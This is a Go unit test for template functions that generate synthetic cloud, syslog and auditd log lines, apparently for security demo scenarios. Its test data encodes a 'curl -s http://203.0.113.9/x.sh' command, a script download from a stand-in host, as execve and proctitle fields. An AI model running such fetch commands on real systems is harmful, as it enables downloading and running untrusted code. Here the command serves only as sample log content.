package demo

import (
	"regexp"
	"strings"
	"testing"
	"text/template"
	"time"
)

// TestDemoTemplateFuncs checks the template functions against hand-computed values and
// auditd's own encoding (the hex strings come from internal/parse/testdata/auditd).
func TestDemoTemplateFuncs(t *testing.T) {
	start := time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
	now := start.Add(10 * time.Minute)
	funcs := templateFuncs(start, 10*time.Minute, now)
	tests := []struct{ tmpl, want string }{
		{`{{cloudtime 65}}`, "2026-11-28T10:01:05Z"},
		{`{{cloudtime 65.9}}`, "2026-11-28T10:01:05Z"},
		{`{{clouddate 65}}`, "Nov 28, 2026, 10:01:05 AM"},
		{`{{syslogtime 3.5}}`, "2026-11-28T10:00:03.500000+00:00"},
		{`{{audit 41.117 1001}}`, "audit(1795860041.117:1001)"},
		{`{{syslogtime (minuteafter 60 0.25)}}`, "2026-11-28T10:01:00.250000+00:00"},
		{`{{syslogtime (minuteafter 60.001 0)}}`, "2026-11-28T10:02:00.000000+00:00"},
		{`{{execve "curl" "-s" "http://203.0.113.9/x.sh"}}`, `argc=3 a0="curl" a1="-s" a2="http://203.0.113.9/x.sh"`},
		{`{{execve "sh" "-c" "echo hi > /tmp/x"}}`, `argc=3 a0="sh" a1="-c" a2=6563686F206869203E202F746D702F78`},
		{`{{execve "echo" "say \"hi\""}}`, `argc=2 a0="echo" a1=7361792022686922`},
		{`{{proctitle "curl" "-s" "http://203.0.113.9/x.sh"}}`, "6375726C002D7300687474703A2F2F3230332E302E3131332E392F782E7368"},
		{`{{proctitle "-bash"}}`, `"-bash"`},
	}
	for _, tt := range tests {
		got, err := run(funcs, tt.tmpl)
		if err != nil || got != tt.want {
			t.Errorf("%s = %q, %v; want %q", tt.tmpl, got, err, tt.want)
		}
	}
	for _, bad := range []string{`{{cloudtime 600.5}}`, `{{syslogtime -1}}`, `{{audit 601 1}}`, `{{syslogtime (minuteafter 599 2)}}`} {
		if got, err := run(funcs, bad); err == nil || !strings.Contains(err.Error(), "outside the scenario's span") {
			t.Errorf("%s = %q, %v; want an error about the span", bad, got, err)
		}
	}

	uuid := regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
	a, b := uuidFor(now, "ev-1"), uuidFor(now, "ev-2")
	if !uuid.MatchString(a) || !uuid.MatchString(b) || a == b || a != uuidFor(now, "ev-1") || a == uuidFor(now.Add(time.Millisecond), "ev-1") {
		t.Errorf("uuidFor: %q, %q: want version 4 UUIDs, stable per time and key, distinct otherwise", a, b)
	}
}

func run(funcs template.FuncMap, src string) (string, error) {
	tmpl, err := template.New("t").Funcs(funcs).Parse(src)
	if err != nil {
		return "", err
	}
	var b strings.Builder
	err = tmpl.Execute(&b, nil)
	return b.String(), err
}
